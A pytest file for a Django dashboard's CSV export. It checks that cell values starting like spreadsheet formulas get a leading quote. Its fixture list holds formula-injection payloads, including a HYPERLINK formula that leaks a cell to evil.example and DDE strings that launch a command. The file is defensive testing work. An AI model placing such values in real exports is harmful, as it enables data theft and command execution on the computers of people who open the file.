"""The CSV export never hands a spreadsheet a formula: text from people starts plain."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse

from insights.export import _text
from tests.factories import UnitFactory, closed_round_with_summary

pytestmark = pytest.mark.django_db
T1 = datetime(2026, 9, 1, tzinfo=UTC)
T2 = T1 + timedelta(weeks=4)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rCarriage",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(name):
    assert _text(name) == "'" + name


@pytest.mark.parametrize("name", ["Payments", "Team = good", "Ops-East", "'quoted", ""])
def test_ordinary_text_is_left_alone(name):
    assert _text(name) == name


def test_unit_names_like_formulas_are_neutralised_in_the_export(login, executive, org, division):
    units = [UnitFactory(organization=org, parent=division, name=name) for name in HOSTILE]
    hostile_root = UnitFactory(organization=org, parent=None, name="=ROOT()", kind="division")
    inside = UnitFactory(organization=org, parent=hostile_root, name="Inside")
    for i, unit in enumerate([*units, hostile_root, inside]):
        closed_round_with_summary(unit, closes_at=T1, respondents=6, alignment=60)
        closed_round_with_summary(unit, closes_at=T2, respondents=6, alignment=55 - i)
    response = login(executive).get(reverse("org_dashboard_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    exported = {row["unit"]: row for row in rows}
    for name in HOSTILE:
        assert exported["'" + name]["change_since_last_round"].startswith("-")  # our figures stay numbers
    assert exported["Inside"]["path"] == "'=ROOT()"
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert key == "change_since_last_round" or not cell.startswith("-"), row
